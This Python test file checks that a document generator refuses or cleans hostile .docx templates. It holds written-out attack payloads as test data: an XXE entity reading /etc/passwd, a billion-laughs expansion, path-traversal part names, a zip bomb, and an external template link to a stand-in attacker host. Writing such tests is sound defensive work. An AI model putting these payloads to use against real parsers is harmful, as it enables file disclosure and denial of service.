"""A reference .docx from anyone: checked (sizes, names, encryption, checksums, XML with no
DTD, a page) and cleaned of what reaches outside the package before python-docx opens it."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from ordgen.diagnostics import OrdgenError
from ordgen.render import package, reference

SRC = package.default_template()
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="file://attacker.example/share/evil.dotm" '
    'TargetMode="External"/></Relationships>')


def member(name: str) -> str:
    with zipfile.ZipFile(SRC) as z:
        return z.read(name).decode()


def template_with(path: Path, changes: dict[str, bytes | None] | None = None, *,
                  extra: tuple[tuple[str, bytes], ...] = (), deflate: bool = True) -> Path:
    """The bundled template with parts replaced (None drops one) or added."""
    changes = changes or {}
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(SRC) as src, zipfile.ZipFile(path, "w", method) as dst:
        for info in src.infolist():
            data = changes.get(info.filename, src.read(info))
            if data is not None:
                dst.writestr(info.filename, data)
        for name, data in extra:
            dst.writestr(name, data)
    return path


def set_encrypted(path: Path, name: str) -> None:
    """Mark one part as encrypted, in its local header and in the central directory."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        offset = z.getinfo(name).header_offset
    data[offset + 6] |= 1
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = int.from_bytes(data[at + 28:at + 30], "little")
        if data[at + 46:at + 46 + length] == name.encode():
            data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 1)
    path.write_bytes(bytes(data))


def corrupt(path: Path, name: str) -> None:
    """Flip one byte of a stored part, so that its checksum no longer matches."""
    data = bytearray(path.read_bytes())
    sample = member(name).encode()[300:320]
    at = data.index(sample)
    data[at] ^= 0xFF
    path.write_bytes(bytes(data))


def hostile(kind: str, folder: Path) -> Path:
    """One hostile reference document of each kind the checks refuse."""
    doc = member("word/document.xml")
    path = folder / f"{kind}.docx"
    if kind == "xxe":
        return template_with(path, {"word/document.xml": doc.replace(
            "<w:document", '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            "<w:document", 1).replace("<w:body>", "<w:body><w:p><w:r><w:t>&x;</w:t></w:r>"
                                                   "</w:p>").encode()})
    if kind == "laughs":
        entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10 if i else "lol"}">'
                           for i in range(9))
        return template_with(path, {"word/styles.xml": (
            f'<?xml version="1.0"?><!DOCTYPE s [{entities}]><s>&e8;</s>').encode()})
    if kind == "undefined-entity":
        return template_with(path, {"word/styles.xml": b"<s>&nbsp;</s>"})
    if kind == "malformed":
        return template_with(path, {"word/document.xml": doc[:600].encode()})
    if kind == "encrypted":
        template_with(path)
        set_encrypted(path, "word/styles.xml")
        return path
    if kind == "crc":
        template_with(path, deflate=False)
        corrupt(path, "word/styles.xml")
        return path
    if kind == "no-sectpr":
        return template_with(path, {"word/document.xml": doc.split("<w:sectPr")[0].encode()
                                    + b"</w:body></w:document>"})
    if kind == "no-document":
        return template_with(path, {"word/document.xml": None})
    if kind == "backslash":
        return template_with(path, extra=(("word/..\\evil.xml", b"<x/>"),))
    if kind == "dotdot":
        return template_with(path, extra=(("word/../../evil.xml", b"<x/>"),))
    if kind == "absolute":
        return template_with(path, extra=(("/etc/evil.xml", b"<x/>"),))
    if kind == "target-outside":
        rels = member("word/_rels/document.xml.rels").replace(
            'Target="styles.xml"', 'Target="../../../etc/passwd"')
        return template_with(path, {"word/_rels/document.xml.rels": rels.encode()})
    if kind == "bomb":
        return template_with(path, extra=(("word/media/zeros.bin", b"\0" * 3_000_000),))
    if kind == "not-a-zip":
        path.write_bytes(b"PK\x03\x04 this is not really a zip file" * 10)
        return path
    raise AssertionError(kind)


HOSTILE = {
    "xxe": "declares a DTD", "laughs": "entit",  # libxml2 stops the expansion itself
    "undefined-entity": "not well-formed XML", "malformed": "not well-formed XML",
    "encrypted": "is encrypted", "crc": "CRC", "no-sectpr": "no section properties",
    "no-document": "no main document part", "backslash": "not a plain part name",
    "dotdot": "not a plain part name", "absolute": "not a plain part name",
    "target-outside": "outside the document", "bomb": "compressed more than",
    "not-a-zip": "not a zip file",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_reference_documents_are_refused_located(kind: str, tmp_path: Path) -> None:
    path = hostile(kind, tmp_path)
    with pytest.raises(OrdgenError) as err:
        package.open_template(path)
    (d,) = err.value.diagnostics
    assert d.path.endswith(path.name) and d.code == "bad-template"
    assert HOSTILE[kind] in d.message or kind == "laughs" and "DTD" in d.message, d.message


def test_size_caps_hold_before_anything_is_inflated(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    path = template_with(tmp_path / "big.docx")
    monkeypatch.setattr(reference, "MAX_PART", 20_000)  # styles.xml is 44 kB
    with pytest.raises(OrdgenError, match="uncompressed"):
        package.open_template(path)
    monkeypatch.setattr(reference, "MAX_PART", 10**9)
    monkeypatch.setattr(reference, "MAX_PARTS", 5)
    with pytest.raises(OrdgenError, match="parts; at most 5"):
        package.open_template(path)


def test_external_relationships_are_dropped_with_what_refers_to_them(tmp_path: Path) -> None:
    settings = member("word/settings.xml").replace(
        "<w:zoom", '<w:attachedTemplate r:id="rId99"/><w:mailMerge><w:mainDocumentType '
        'w:val="formLetters"/><w:dataSource r:id="rId98"/></w:mailMerge><w:zoom', 1)
    rels = EXTERNAL_RELS.replace("</Relationships>", (
        '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/mailMergeSource" Target="file:///C:/data.xlsx" '
        'TargetMode="External"/></Relationships>'))
    header = member("word/header1.xml").replace(
        "</w:hdr>", '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
                    "</w:p></w:hdr>")
    path = template_with(tmp_path / "outward.docx", {
        "word/settings.xml": settings.encode(), "word/header1.xml": header.encode()},
        extra=(("word/_rels/settings.xml.rels", rels.encode()),
               ("word/_rels/header1.xml.rels", EXTERNAL_RELS.replace(
                   "rId99", "rId7").replace("attachedTemplate", "hyperlink").encode())))
    word = package.open_template(path)
    out = zipfile.ZipFile(io.BytesIO(package.package_bytes(word, package.EPOCH)))
    for name in out.namelist():
        data = out.read(name)
        assert b'TargetMode="External"' not in data, name
        assert b"attachedTemplate" not in data and b"mailMerge" not in data, name
        assert b'r:id="rId7"' not in data and b'r:id="rId9' not in data, name
    assert b"site" in out.read("word/header1.xml")  # the text stays; only the link goes


def test_a_sound_template_is_opened_from_its_cleaned_copy(tmp_path: Path) -> None:
    path = template_with(tmp_path / "mine.docx")
    word = package.open_template(path)
    assert set(package.STYLES) <= set(package.style_ids(word))
    assert word.sections[-1].page_width is not None
